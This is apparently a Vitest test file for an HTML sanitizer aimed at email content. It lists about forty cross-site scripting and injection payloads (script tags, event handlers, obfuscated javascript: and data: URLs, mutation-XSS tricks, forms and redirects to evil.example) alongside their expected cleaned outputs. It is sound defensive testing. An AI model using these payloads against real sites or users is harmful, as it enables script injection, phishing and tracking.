import { describe, expect, it } from "vitest"
import { sanitizeHtml } from "./sanitize-html"

// Each would run, load or ask for something in a page that shows it as it is.
const attacks: [name: string, html: string, safe: string][] = [
  ["a script", "<p>a</p><script>alert(1)</script>", "<p>a</p>"],
  ["a script in capitals", "<ScRiPt SRC=//evil.example/x.js></sCrIpT>a", "a"],
  ["a script in a script", "<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"],
  ["an unclosed script", "a<script>alert(1)", "a"],
  [
    "an event handler",
    '<img src="https://a.example/i.png" onerror="alert(1)">',
    '<img src="https://a.example/i.png" />',
  ],
  ["a handler behind a slash", "<img/onerror=alert(1)/src=x>a", "<img />a"],
  ["a handler of the body", '<body onload="alert(1)">a</body>', "<body>a</body>"],
  ["javascript:", '<a href="javascript:alert(1)">a</a>', "<a>a</a>"],
  ["javascript: in capitals", '<a href="JaVaScRiPt:alert(1)">a</a>', "<a>a</a>"],
  ["javascript: with a tab in it", '<a href="java&#9;script:alert(1)">a</a>', "<a>a</a>"],
  ["javascript: with a line break", '<a href="java\nscript:alert(1)">a</a>', "<a>a</a>"],
  ["javascript: behind a control character", '<a href="&#1;javascript:alert(1)">a</a>', "<a>a</a>"],
  ["javascript: in entities", '<a href="&#106;avascript&colon;alert(1)">a</a>', "<a>a</a>"],
  ["vbscript:", '<a href="vbscript:msgbox(1)">a</a>', "<a>a</a>"],
  ["a page in an address", '<a href="data:text/html,<script>alert(1)</script>">a</a>', "<a>a</a>"],
  ["a page in a picture", '<img alt="a" src="data:text/html;base64,PHNjcmlwdD4=">', '<img alt="a" />'],
  ["a drawing in a picture", '<img alt="a" src="data:image/svg+xml;base64,PHN2Zz4=">', '<img alt="a" />'],
  ["a page in a disguised picture", '<img alt="a" src="da\tta:text/html,x">', '<img alt="a" />'],
  ["an address without a scheme", '<a href="//evil.example">a</a>', "<a>a</a>"],
  ["a frame", '<iframe src="https://evil.example"></iframe>a', "a"],
  ["a document in a frame", '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', "a"],
  ["an object", '<object data="x.swf"><embed src="x.swf"></object>a', "a"],
  ["a drawing that runs", "<svg onload=alert(1)><circle></svg>a", "a"],
  ["a formula that runs", '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></math>a', "a"],
  ["a form", '<form action="https://evil.example"><input name="password">a<button>Go</button></form>', "aGo"],
  ["a base for all links", '<base href="https://evil.example">a', "a"],
  ["a redirection", '<meta http-equiv="refresh" content="0;url=https://evil.example">a', "a"],
  ["a sheet from elsewhere", '<link rel="stylesheet" href="https://evil.example/x.css">a', "a"],
  ["a sheet", "<style>*{display:none}</style>a", "a"],
  ["a style that loads", '<p style="background:url(https://evil.example/p.gif)">a</p>', "<p>a</p>"],
  ["a style that runs", '<p style="width:expression(alert(1))">a</p>', "<p>a</p>"],
  ["a style that covers the page", '<p style="position:fixed;top:0;color:red">a</p>', '<p style="color:red">a</p>'],
  ["a style that cannot be read", '<p style="color:red;}{">a</p>', '<p style="color:red">a</p>'],
  ["a template", "<template><img src=x onerror=alert(1)></template>a", "a"],
  ["a comment that hides markup", "<!--><img src=x onerror=alert(1)>-->a", "<img />--&gt;a"],
  ["a conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->a", "a"],
  ["markup in noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>b', "b"],
  ["an attribute that breaks out", '<p title="&quot;><script>">a</p>', '<p title="&quot;&gt;&lt;script&gt;">a</p>'],
  ["a class of whoever shows it", '<p class="fixed inset-0" id="root">a</p>', "<p>a</p>"],
  ["an address of whoever shows it", '<a href="/logout">a</a><img src="/logout">', "<a>a</a><img />"],
]

describe("sanitizeHtml", () => {
  it.each(attacks)("takes out %s", (_, html, safe) => {
    expect(sanitizeHtml(html)).toBe(safe)
  })

  it.each([
    "<html><body>This is the email body content...</body></html>",
    '<p><a href="https://example.com/?a=1&amp;b=2">a</a> <a href="mailto:ada@example.com">b</a></p>',
    '<img alt="Logo" src="cid:logo@example.com" />',
    '<img src="data:image/png;base64,iVBORw==" />',
    '<table width="100%" bgcolor="#fff"><tr><td style="border:1px solid #eee;padding:0 10px">a</td></tr></table>',
    "<div style=\"font-family:Arial, 'Helvetica Neue';color:#333\">a &lt;b&gt; &amp; c</div>",
  ])("leaves %s as it is", (html) => {
    expect(sanitizeHtml(html)).toBe(html)
  })

  it.each([
    ["deep", "<div>".repeat(1_000_000)],
    ["many", "<br>".repeat(200_000)],
  ])("does not work for minutes on elements that are too %s", (_, html) => {
    expect(sanitizeHtml(html)).toBeNull()
  })

  it("leaves out the end of what is very long", () => {
    expect(sanitizeHtml(`<p>${"a".repeat(2_000_000)}</p>`)).toHaveLength(1024 * 1024 + "</p>".length)
  })
})
